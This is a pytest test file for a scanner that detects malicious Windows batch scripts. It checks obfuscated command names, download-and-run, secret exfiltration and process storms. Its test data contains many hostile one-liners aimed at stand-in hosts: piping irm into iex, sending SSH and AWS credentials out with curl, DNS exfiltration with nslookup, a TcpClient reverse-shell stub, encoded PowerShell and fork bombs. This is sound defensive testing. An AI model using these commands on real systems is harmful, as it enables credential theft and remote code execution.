"""Batch files: names in pieces, variables and loops, what is written and then run, and what is only shown."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.ecosystems.archive import Member
from pratique.facts.scan.engine import Look, look
from pratique.facts.scan.observation import Observation
from pratique.facts.severity import worst
from pratique.model.evidence import Alarm

LATE = "setlocal enabledelayedexpansion\n"
ALPHABET = "set k=abcdefghijklmnopqrstuvwxyz\n"


def looked(script: str | bytes, path: str = "demo-1.0/tools/demo.bat") -> Look:
    data = script.encode() if isinstance(script, str) else script
    return look("demo-1.0.tar.gz", [Member(path, len(data), lambda: data)])


def seen(script: str | bytes, *labels: str) -> list[Observation]:
    return [each for view in looked(script).files.values() for each in view.observations if each.label in labels]


def rules(script: str | bytes) -> set[str]:
    return {finding.rule for finding in looked(script).findings}


@pytest.mark.parametrize(
    "script",
    [
        "certutil -decode a b",
        "@certutil.exe -decode a b",
        "C:\\Windows\\System32\\certutil.exe -decode a b",
        "c^e^r^tutil -decode a b",
        'cer"tutil" -decode a b',
        "set c=certutil\n%c% -decode a b",
        'set "c=cert" & set u=util\n%c%%u% -decode a b',
        "set c=cortutil\n%c:o=e% -decode a b",
        "set c=xxcertutilyy\n%c:~2,8% -decode a b",
        "set c=xxcertutilyy\n%c:~2,-2% -decode a b",
        "set c=xxcertutil\n%c:~-8% -decode a b",
        "set c=junk-certutil\n%c:*-=% -decode a b",
        "ce%nobody%rt%sets%util -decode a b",
        "set a=cert\nset b=%a%util\n%b% -decode a b",
        "set a=%%b%%\nset b=certutil\ncall %a% -decode a b",
        LATE + "set c=certutil\n!c! -decode a b",
        LATE + "set c=\nfor %%i in (c e r t u t i l) do set c=!c!%%i\n!c! -decode a b",
        LATE + "set r=litutrec\nset c=\nfor /l %%i in (7,-1,0) do set c=!c!!r:~%%i,1!\n!c! -decode a b",
        'for /f "tokens=2 delims=," %%i in ("a,certutil,b") do %%i -decode a b',
        "for /f %%i in ('echo certutil') do %%i -decode a b",
        'for /f "usebackq" %%i in (`echo certutil`) do %%i -decode a b',
        "if exist x (certutil -decode a b) else (echo no)",
        "if not defined x certutil -decode a b",
        'if "%x%"=="" certutil -decode a b',
        "if 1 equ 1 (\n  certutil -decode a b\n)",
        "if exist y (\n  echo no\n) else (\n  certutil -decode a b\n)",
        "echo x & certutil -decode a b",
        "echo x && certutil -decode a b > nul 2>&1",
        "cmd /c certutil -decode a b",
        'cmd.exe /d /s /c "certutil -decode a b"',
        'start /b "" certutil -decode a b',
        'start "title" /min certutil -decode a b',
        "call certutil -decode a b",
        "call :sub a b\ngoto :eof\n:sub\ncertutil -decode %1 %2\ngoto :eof",
        "certutil ^\n  -decode a b",
        "(certutil -decode a b)",
        'forfiles /c "certutil -decode a b"',
    ],
)
def test_programs_are_known_in_whatever_pieces(script: str) -> None:
    assert seen(script, "decode.base"), script


@pytest.mark.parametrize(
    "script",
    [
        'p^o^w^ershell -c "Write-Output 1"',
        ALPHABET + "%k:~2,1%%k:~20,1%%k:~17,1%%k:~11,1% -s https://a.example.invalid/",
        'po%nobody%wer%sets%shell -c "Write-Output 1"',
        'set a=power\nset b=shell\n%a%%b% -c "Write-Output 1"',
    ],
)
def test_a_name_in_pieces_is_remarked_on(script: str) -> None:
    assert "disguised-command" in rules(script)


@pytest.mark.parametrize(
    "script",
    [
        "set CURL=curl\n%CURL% -o a.zip https://a.example.invalid/a.zip",
        '"%JAVA_HOME%\\bin\\java" -jar demo.jar %*',
        "set PY=python\n%PY%%SUFFIX% -m demo",
        'powershell -ExecutionPolicy Bypass -File "%~dp0build.ps1" %*',
        'for %%f in (*.txt) do type "%%f"',
        "if %ERRORLEVEL% neq 0 exit /b %ERRORLEVEL%",
        "echo curl -s https://a.example.invalid ^| cmd",
        "rem vssadmin delete shadows /all",
        ":: del /s /q C:\\",
        "echo To remove it: rd /s /q C:\\",
        "rd /s /q build\ndel /q *.obj",
        'rd /s /q "%TEMP%\\demo"',
        "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        "reg add HKCU\\Software\\Demo /v Path /d C:\\demo /f",
        "schtasks /query /tn demo",
        "vssadmin list shadows",
        "netsh wlan show interfaces",
        "net user",
        "bitsadmin /list",
        "curl -L -o setup.exe https://dl.example.invalid/setup.exe\nsetup.exe /quiet",
        "shutdown /r /t 0",
        "set /p name=Name: \necho %name%",
        "taskkill /f /im demo.exe",
        "sc create demo binPath= C:\\demo\\demo.exe",
        "attrib +r demo.txt",
        "copy a.txt b.txt & xcopy /s src dst",
        "powershell \"$t = New-Object Net.Sockets.TcpClient; $t.Connect('server.example.invalid', 25); $t.Connected\"",
        """mshta "javascript:close(new ActiveXObject('Scripting.FileSystemObject').GetStandardStream(1).Write(1))" | more""",
        "wmic os get caption",
        "net use Z: \\\\server\\share",
    ],
)
def test_what_people_do_and_what_is_only_shown_is_no_alarm(script: str) -> None:
    assert worst(looked(script).report()) is Alarm.NONE, looked(script).findings


FLOWS = {
    "curl -o a.exe https://a.example.invalid/a.exe\na.exe": ("proc.fetched", "net.download_file"),
    "curl -sSLo a.exe https://a.example.invalid/a.exe\nstart a.exe": ("proc.fetched", "net.download_file"),
    "curl -O https://a.example.invalid/b.exe\nb.exe": ("proc.fetched", "net.download_file"),
    "certutil -urlcache -f https://a.example.invalid/a a.exe\n.\\a.exe": ("proc.spawn", "net.download_file"),
    'bitsadmin /transfer x https://a.example.invalid/a %TEMP%\\a.exe\n"%TEMP%\\a.exe"': (
        "proc.spawn",
        "net.download_file",
    ),
    'powershell -c "irm https://a.example.invalid/ | iex"': ("code.exec", "net.http"),
    "set > e.txt\ncurl -d @e.txt https://a.example.invalid/": ("net.send", "read.env_all"),
    "type %USERPROFILE%\\.ssh\\id_rsa > k\ncurl -T k https://a.example.invalid/": ("net.send", "read.secret_file"),
    "for /f %%u in ('whoami') do set u=%%u\nnslookup %u%.a.example.invalid": ("net.dns_data", "read.host_info"),
    "nslookup %USERNAME%.a.example.invalid": ("net.dns_data", "read.host_info"),
    "set /p k=<%USERPROFILE%\\.aws\\credentials\ncurl -d %k% https://a.example.invalid/": (
        "net.send",
        "read.secret_file",
    ),
    "certutil -decode a b.exe\nb.exe": ("proc.spawn", "decode.base"),
    "curl https://a.example.invalid/a | cmd": ("proc.shell", "net.http"),
    "curl -o %APPDATA%\\a.exe https://a.example.invalid/a\nschtasks /create /tn a /tr %APPDATA%\\a.exe": (
        "write.autostart",
        "net.download_file",
    ),
}


@pytest.mark.parametrize("script", FLOWS)
def test_what_flows_into_an_act_is_told(script: str) -> None:
    label, source = FLOWS[script]
    assert any(source in each.inputs for each in seen(script, label)), seen(script, label)


@pytest.mark.parametrize(
    ("script", "language"),
    [
        ('powershell -c "iex (irm https://a.example.invalid/)"', "powershell"),
        ("powershell \"& { iex (irm 'https://a.example.invalid/') }\"", "powershell"),
        ("echo iex (irm https://a.example.invalid/) | powershell -", "powershell"),
        ("echo iex (irm https://a.example.invalid/)> a.ps1\npowershell -File a.ps1", "powershell"),
        (
            "(\n echo $u = 'https://a.example.invalid/'\n echo iex (irm $u^)\n)> a.ps1\npowershell -File a.ps1",
            "powershell",
        ),
        ('<# :\n@echo off\npowershell -f "%~f0"\nexit /b\n#>\niex (irm https://a.example.invalid/)', "powershell"),
        (
            "python -c \"import urllib.request; exec(urllib.request.urlopen('http://a.example.invalid/').read())\"",
            "python",
        ),
    ],
)
def test_code_inside_texts_is_read_in_its_language(script: str, language: str) -> None:
    found = [each for each in seen(script, "code.exec") if "net.http" in each.inputs]
    assert {each.language for each in found} == {language}


@pytest.mark.parametrize(
    "script",
    [
        'mshta vbscript:Execute("createobject(""wscript.shell"").run(""a.exe"")")',
        "mshta vbscript:Execute(Chr(77)&Chr(78))",
        'mshta vbscript:Execute("createobject(""scripting.filesystemobject"").createtextfile(""a"")")',
        "mshta \"javascript:GetObject('script:' + a);new ActiveXObject('Scripting.FileSystemObject')\"",
        "mshta \"javascript:eval(new ActiveXObject('Scripting.FileSystemObject').GetStandardStream(0).ReadAll())\"",
    ],
)
def test_a_script_for_mshta_that_does_more_than_ask_is_told(script: str) -> None:
    assert "download-and-run" in rules(script)


def test_a_connection_of_which_something_is_read_is_told() -> None:
    line = "$c = New-Object Net.Sockets.TcpClient('c2.example.invalid', 443); $s = $c.GetStream()"
    assert "reverse-shell" in rules(f'powershell -c "{line}"')


def test_an_encoded_command_is_decoded() -> None:
    text = base64.b64encode("iex (irm http://a.example.invalid/)".encode("utf-16-le")).decode()
    for option in ("-enc", "-EncodedCommand", "/e", "-ec"):
        assert {"encoded-powershell", "download-and-run"} <= rules(f"powershell -nop {option} {text}")


def test_a_letter_out_of_an_exit_code_is_known() -> None:
    script = "cmd /c exit 99\nset c=%=ExitCodeAscii%\n%c%ertutil -decode a b"
    assert seen(script, "decode.base")


def test_numbers_are_worked_out() -> None:
    script = LATE + "set k=abcert\nset /a n=(1+3)*2/4\nset c=!k:~2!\nset /a m=n-2\n%c%util -decode a%m% b%n%"
    assert seen(script, "decode.base")[0].text == "certutil -decode a0 b2"


@pytest.mark.parametrize(
    ("expression", "number"),
    [
        ("1+2*3", 7),
        ("(1+2)*3", 9),
        ("0x10 | 3", 19),
        ("7 %% 4", 3),
        ("-5/2", -2),
        ("1<<4", 16),
        ("~0", -1),
        ("!5", 0),
        ("6^3", 5),
    ],
)
def test_arithmetic_is_that_of_set(expression: str, number: int) -> None:
    script = f'set /a "n={expression}"\ncertutil -decode x%n%x y'
    assert seen(script, "decode.base")[0].text == f"certutil -decode x{number}x y"


@pytest.mark.parametrize(
    "script", ["%0|%0", ":a\n%0|%0\ngoto a", ":x\nstart %0\ngoto x", 'for /l %%i in (1,0,2) do start "" "%~f0"']
)
def test_a_storm_is_told(script: str) -> None:
    assert "process-storm" in rules(script)


@pytest.mark.parametrize(
    "head",
    [
        "if exist a (",
        "@for %%f in (a) do @if %%~zf equ 0 (",
        "for %%f in (a) do if exist b (",
        "for %%f in (a) do for %%g in (b) do if not exist c @(",
    ],
)
def test_a_block_opens_behind_any_row_of_conditions_and_loops(head: str) -> None:
    script = f"{head}\n  certutil -x\n) else if a==b (\n  certutil -y\n) else for %%h in (d) do (\n  certutil -z\n)\n"
    assert [each.text for each in seen(script, "proc.command")] == ["certutil -x", "certutil -y", "certutil -z"]


@pytest.mark.parametrize("word", ["del /f", "erase"])
def test_what_deletes_starts_nothing(word: str) -> None:
    script = f"curl -L https://get.example.invalid/setup.exe -o setup.exe\nstart /wait setup.exe /S\n{word} setup.exe\n"
    assert seen(script, "harm.delete")
    assert not seen(script, "proc.spawn")
    assert rules(script) == set()


def test_asking_for_rights_is_no_storm() -> None:
    script = 'net session >nul 2>&1\nif %errorlevel% neq 0 (\n  start "" "%~f0" again\n  exit /b\n)\necho yes'
    assert "process-storm" not in rules(script)


def test_a_mark_of_another_encoding_hides_nothing() -> None:
    script = b'\xff\xfe&cls\r\npowershell -c "iex (irm http://a.example.invalid/)"\r\n'
    assert {"download-and-run", "hidden-code"} <= rules(script)
    assert "download-and-run" in rules('powershell -c "iex (irm http://a.example.invalid/)"'.encode("utf-16"))


def test_lines_are_those_of_the_file() -> None:
    script = "@echo off\r\necho a ^\r\n  b\r\n\r\ncertutil -decode a b"
    assert {each.line for each in seen(script, "decode.base")} == {5}


HOSTILE = [
    "(" * 10_000,
    ")" * 10_000,
    "^" * 10_000,
    "%" * 10_000,
    "!" * 10_000,
    '"' * 9_999,
    "&" * 10_000,
    "set a=%a%%a%\n" * 1_000,
    "set a=x\n" + "set a=%a%%a%\n" * 100,
    LATE + "set a=x\n" + "set a=!a!!a!\n" * 100 + "!a!",
    "set a=" + "x" * 8_000 + "\n" + "set b=%a:x=" + "y" * 190 + "%\n",
    "for %%i in (1 2 3) do " * 500 + "echo x",
    "for /l %%i in (1,1,1000000000) do echo %%i",
    "for /l %%a in (1,1,300) do for /l %%b in (1,1,300) do for /l %%c in (1,1,300) do echo %%a%%b%%c",
    "if " * 5_000,
    "if a==a " * 2_000 + "echo x",
    ":a\ncall :a x\n",
    ":a\ncall :b x\n:b\ncall :a x\n",
    "call " * 2_000 + "echo x",
    "cmd /c " * 2_000 + "echo x",
    "set /a n=" + "(" * 5_000,
    "set /a n=1" + "+1" * 5_000,
    "set /a n=9999999999999999999999999999999999999",
    "set /a n=1/0",
    "set /a n=1<<99999999999",
    "echo " + "x" * 100_000,
    "\0" * 10_000,
    "a^\n" * 20_000,
    "%a:~1,2%%a:~-99999999,99999999%" * 200,
    'for /f "tokens=1-31,* delims=' + "x" * 1_000 + "\" %%a in ('echo x') do echo %%z",
    "echo x >> a.ps1\n" * 5_000 + "powershell -f a.ps1",
]


@pytest.mark.parametrize("script", HOSTILE, ids=lambda script: script[:14].replace("\0", "0").replace("\n", " "))
def test_hostile_files_come_to_an_end(script: str) -> None:
    looked(script)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("%!^&|()<>\"=:;,~ \n@/setcalfordi0123*.\\'`"), max_size=120))
def test_nothing_but_findings_and_problems_comes_of_any_text(script: str) -> None:
    looked(script)


PIECES = st.sampled_from(
    [
        "set", "a=", "%a%", "!a!", "%%i", "for", "/f", "/l", "in", "(", ")", "do", "if", "exist", "not", "==", "else", "call",
        ":x", "goto", "&", "&&", "|", ">", ">>", "<", "\n", "^", '"', "echo", "cmd /c", "powershell -c", "start", "%~f0",
        "%a:~1,2%", "/a", "1", "*", "'", "certutil", "setlocal enabledelayedexpansion", "x",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40))
def test_nothing_but_findings_and_problems_comes_of_any_pieces(pieces: list[str]) -> None:
    looked(" ".join(pieces))
